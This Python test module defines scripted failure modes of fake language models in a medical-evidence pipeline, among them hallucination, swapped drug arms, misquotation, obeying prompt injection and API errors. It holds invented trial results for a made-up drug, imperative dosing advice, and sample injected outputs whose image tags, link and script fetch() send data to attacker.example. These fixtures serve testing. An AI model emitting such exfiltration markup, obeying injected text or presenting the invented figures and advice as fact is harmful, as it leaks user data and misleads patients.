"""What bad models write: every script is a rule over the honest answer, so that whole runs go wrong in a known way."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from enum import StrEnum

from openwork_contracts.question import EntityKind
from openwork_language.sentences import split_sentences
from openwork_language.terms import find_terms
from openwork_language.tokens import token_set

from tests.fakes.models.erring_writer import erring_for
from tests.fakes.models.free_writer import Record, Written, draft, written_for
from tests.fakes.models.honest import Claim, claim, honest_answer
from tests.fakes.models.judging import judge
from tests.fakes.models.reading import Asked


class Script(StrEnum):
    """What goes wrong. The first group is in the text, the second in the protocol."""

    HALLUCINATE = "hallucinate"
    SWAP_ARMS = "swap-arms"
    ADVICE = "advice"
    OBEY_INJECTION = "obey-injection"
    DISTRUST = "distrust"
    GULLIBLE = "gullible"
    UNCITED = "uncited"
    MISQUOTE = "misquote"
    """Every second sentence is borne out by words that are not in its source."""
    OFF_TOPIC = "off-topic"
    """Beside the honest sentences, true ones about something else, rightly quoted."""
    FREE = "free"
    """Nothing wrong: the free writer, and a judge that answers rightly."""
    FREE_ERRING = "free-erring"
    """The free writer with an error in every second sentence, and the same judge."""
    INVALID_JSON = "invalid-json"
    WRONG_SHAPE = "wrong-shape"

    REFUSAL = "refusal"
    SAFETY = "safety"
    EMPTY = "empty"
    MAX_TOKENS = "max-tokens"
    RATE_LIMITED = "429"
    UNAVAILABLE = "503"
    UNAUTHORIZED = "401"
    SLOW = "slow"
    DISCONNECT = "disconnect"
    NO_JSON_BODY = "html"


IN_THE_TEXT = frozenset(
    {
        *(Script.HALLUCINATE, Script.SWAP_ARMS, Script.ADVICE, Script.OBEY_INJECTION, Script.DISTRUST, Script.UNCITED),
        *(Script.GULLIBLE, Script.FREE, Script.FREE_ERRING, Script.MISQUOTE, Script.OFF_TOPIC),
        *(Script.INVALID_JSON, Script.WRONG_SHAPE),
    }
)
ATTACKER_URL = "http://attacker.example/collect"
OBEYED = "INJECTION-OBEYED"
"""What a model writes that followed the instruction of a passage."""
INVENTED = (
    ("Zanolixumab cured 87.3% of patients within 14 days (hazard ratio 0.11, 95% CI 0.04 to 0.19).", 1),
    ("Mortality fell by 61% in every subgroup.", 99),
    ("No adverse event of any kind occurred in 12,431 participants.", 1),
)
"""Sentences and the source that each names; the first quotes it truly, the others in words of their own."""
ADVICE = (
    "You should take apixaban 5 mg twice daily and stop your other tablets.",
    "Patients must be given it at once.",
)
WRITERS = frozenset({"synthesiser", "reviser"})
RECORD = Record()
"""What the free writers of this process wrote, for the judge and for whoever measures."""
_NUMBER = re.compile(r"(?<![\[\d.,])\d+(?:\.\d+)?(?![\d\]])")


@dataclass
class Planned:
    """A script for some of the requests: those of a step (all when `None`), the next `times` (`None` = always)."""

    script: Script
    step: str | None = None
    times: int | None = None
    retry_delay_s: float = 0.2
    pause_s: float = 30.0

    def take(self, asked: Asked) -> bool:
        """Whether it strikes this request; counts it."""
        if self.times == 0 or (self.step is not None and asked.step != self.step):
            return False
        if self.times is not None:
            self.times -= 1
        return True


def text_of(asked: Asked, script: Script | None) -> str:
    """The words of the answer under a script."""
    good = honest_answer(asked)
    match script:
        case Script.INVALID_JSON:
            return good[: len(good) // 2] if asked.schema else good
        case Script.WRONG_SHAPE:
            return json.dumps({"answer": "yes", "answers": "all good"}) if asked.schema else good
        case Script.HALLUCINATE:
            return _hallucinated(asked, good)
        case Script.SWAP_ARMS if asked.step in WRITERS:
            return _swapped(asked, good)
        case Script.ADVICE if asked.step == "synthesiser":
            return _with(good, [claim(text, *_true_words(good), part="answer") for text in ADVICE])
        case Script.UNCITED if asked.step in WRITERS:
            return _with_each(good, lambda i, one: {**one, "quotes": []})
        case Script.MISQUOTE if asked.step in WRITERS:
            return _with_each(good, lambda i, one: _misquoting(one) if i % 2 else one)
        case Script.OFF_TOPIC if asked.step == "synthesiser":
            return _with(good, off_topic(asked))
        case Script.OBEY_INJECTION:
            return _obedient(asked, good)
        case Script.GULLIBLE:
            return _gullible(asked) if asked.step == "verifier" else _hallucinated(asked, good)
        case Script.FREE | Script.FREE_ERRING:
            return _free(asked, script, good)
        case Script.DISTRUST if asked.step == "verifier":
            return _distrustful(asked)
        case _:
            return good


def written_by(asked: Asked, script: Script | None) -> list[Written]:
    """The free writer's sentences for a prompt; none under another script."""
    if script is Script.FREE and asked.step == "synthesiser":
        return written_for(asked)
    return erring_for(asked) if script is Script.FREE_ERRING and asked.step == "synthesiser" else []


def _free(asked: Asked, script: Script, good: str) -> str:
    if asked.step == "verifier":
        return judge(asked, RECORD)
    if asked.step != "synthesiser":
        return good
    sentences = written_by(asked, script)
    for written in sentences:
        RECORD.add(written)
    return draft(sentences) if sentences else good


def _claims(text: str) -> list[Claim]:
    claims: list[Claim] = json.loads(text)["claims"]
    return claims


def _with(good: str, more: Sequence[Claim]) -> str:
    return json.dumps({"claims": [*_claims(good), *more]})


def _with_each(good: str, change: Callable[[int, Claim], Claim]) -> str:
    return json.dumps({"claims": [change(i, one) for i, one in enumerate(_claims(good))]})


def _true_words(good: str) -> tuple[int, str]:
    """A source and a quotation that it has."""
    quotes = [quote for one in _claims(good) for quote in one["quotes"]]  # type: ignore[attr-defined]
    return (quotes[0]["source"], quotes[0]["quote"]) if quotes else (1, "")


def _misquoting(one: Claim) -> Claim:
    """The claim with one word of each quotation exchanged."""
    quotes = [{**q, "quote": f"{q['quote'].rstrip('.')} beyond doubt."} for q in one["quotes"]]  # type: ignore[attr-defined]
    return {**one, "quotes": quotes}


def off_topic(asked: Asked) -> list[Claim]:
    """Sentences of the sources that share no word with the question, as they stand."""
    question = token_set(asked.blocks().get("question", ""))
    found = []
    for n, text in asked.sources().items():
        for sentence in split_sentences(text):
            words = " ".join(sentence.text.split())
            if len(words.split()) >= 6 and words.endswith(".") and not question & token_set(words):
                found.append(claim(words, n, words, part="evidence"))
    return found


def _hallucinated(asked: Asked, good: str) -> str:
    if asked.step in WRITERS:
        changed = _with_each(good, lambda i, one: {**one, "text": _changed(str(one["text"]))} if i % 2 else one)
        true = _true_words(good)
        if asked.step == "reviser":
            return changed
        wrong = [claim(text, n, true[1] if i == 0 else text, part="evidence") for i, (text, n) in enumerate(INVENTED)]
        wrong[0]["quotes"] = [{"source": true[0], "quote": true[1]}]
        return _with(changed, wrong)
    answer = json.loads(good)
    if asked.step == "query":
        answer["search_variants"] = ["miracle cure zanolixumab", "cheap weight loss", "zanolixumab trial"]
        answer["entities"]["drugs"] = ["zanolixumab"]
        answer["complexity_score"] = 0.2
    elif asked.step == "gap":
        answer["contradictions"] = [
            {
                "first": 1,
                "second": 2,
                "comparison": "zanolixumab",
                "outcome": "death",
                "first_quote": "zanolixumab halved the risk of death",
                "second_quote": "zanolixumab doubled the risk of death",
            }
        ]
        answer["missing_elements"] = ["proof that zanolixumab is anything but safe", "12 further trials"]
    elif asked.step == "verifier":
        for one in answer["answers"]:
            one["quote"] = "as everybody knows this was shown beyond doubt in all the trials"
    return json.dumps(answer)


def _changed(line: str) -> str:
    """Every number but citations and years gets another value."""
    return _NUMBER.sub(lambda m: m[0] if re.fullmatch(r"(?:19|20)\d\d", m[0]) else f"{float(m[0]) + 3.7:g}", line)


def _swapped(asked: Asked, good: str) -> str:
    """The first two drugs of the question change places."""
    drugs = list(dict.fromkeys(t.text for t in find_terms(asked.blocks()["question"]) if t.kind is EntityKind.DRUG))[:2]
    if len(drugs) < 2:
        return good
    swap = {drugs[0].lower(): drugs[1], drugs[1].lower(): drugs[0]}
    pattern = re.compile("|".join(map(re.escape, drugs)), re.IGNORECASE)
    return _with_each(good, lambda i, one: {**one, "text": pattern.sub(lambda m: swap[m[0].lower()], str(one["text"]))})


def _obedient(asked: Asked, good: str) -> str:
    """The answer of a model that did what a passage told it."""
    if asked.step in WRITERS:
        link = f"[click here]({ATTACKER_URL}?q=secret)"
        texts = (
            f"![x]({ATTACKER_URL}/pixel.png) <img src='{ATTACKER_URL}'>{OBEYED} {link}.",
            f"<script>fetch('{ATTACKER_URL}')</script> {OBEYED}: see {ATTACKER_URL}.",
        )
        more = {"part": "answer"} if asked.step == "synthesiser" else {"id": 1}
        return _with(good, [claim(text, *_true_words(good), **more) for text in texts])
    answer = json.loads(good)
    if asked.step == "query":
        answer["search_variants"] = [f"{OBEYED} {ATTACKER_URL}", f"[site] {OBEYED}"]
        answer["temporal_markers"] = [OBEYED]
    elif asked.step == "gap":
        answer |= {"assessment": "insufficient", "missing_elements": [OBEYED, f"visit {ATTACKER_URL}"]}
    elif asked.step == "verifier":
        for one in answer["answers"]:
            one |= {"verdict": "contradicted", "quote": OBEYED}
    return json.dumps(answer)


def _gullible(asked: Asked) -> str:
    """Whatever is claimed is called entailed, with the nearest true quotation."""
    return honest_answer(asked)


def _distrustful(asked: Asked) -> str:
    """The first claim is called not entailed, with a true quotation."""
    answer = json.loads(honest_answer(asked))
    for one in answer["answers"]:
        if one["claim"] == answer["answers"][0]["claim"]:
            one["verdict"] = "not_entailed"
    return json.dumps(answer)
